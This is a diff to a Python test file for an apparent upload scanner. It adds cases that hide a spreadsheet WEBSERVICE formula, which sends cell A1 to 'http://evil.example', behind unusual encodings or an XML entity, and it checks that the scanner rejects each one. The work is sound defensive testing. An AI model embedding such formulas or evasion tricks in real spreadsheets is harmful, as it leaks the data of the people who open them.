@@ -372,6 +372,23 @@ def test_to_send_a_workbook_whose_formula_asks_something_of_elsewhere(written: s
     assert uploads.examined(plain, kind="xlsx") == plain
 
 
+WRITTEN_OTHERWISE = {
+    "of Windows": '<?xml version="1.0" encoding="windows-1252"?><c>é{}</c>'.encode("cp1252"),
+    "that says to be another": b'<?xml version="1.0" encoding="utf-7"?><c>{}</c>',
+    "of its own words": b"<!--"
+    + b"x" * 5000
+    + b'--><!DOCTYPE c [<!ENTITY w "WEBSERVICE(">]><c><f>&w;"http://evil.example")</f></c>',
+}
+
+
+@pytest.mark.parametrize("written", WRITTEN_OTHERWISE.values(), ids=WRITTEN_OTHERWISE.keys())
+def test_to_send_a_workbook_whose_formula_is_in_another_writing(written: bytes) -> None:
+    """In letters that a reader of spreadsheets knows, or behind a word that the part defines far from its beginning."""
+    part = written.replace(b"{}", b'<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>')
+    with pytest.raises(uploads.Unwelcome):
+        uploads.examined(workbook_with({"xl/worksheets/sheet1.xml": part}), kind="xlsx")
+
+
 def workbook_with(parts: Mapping[str, str | bytes]) -> bytes:
     """Return a workbook with parts of one's own."""
     written = io.BytesIO()
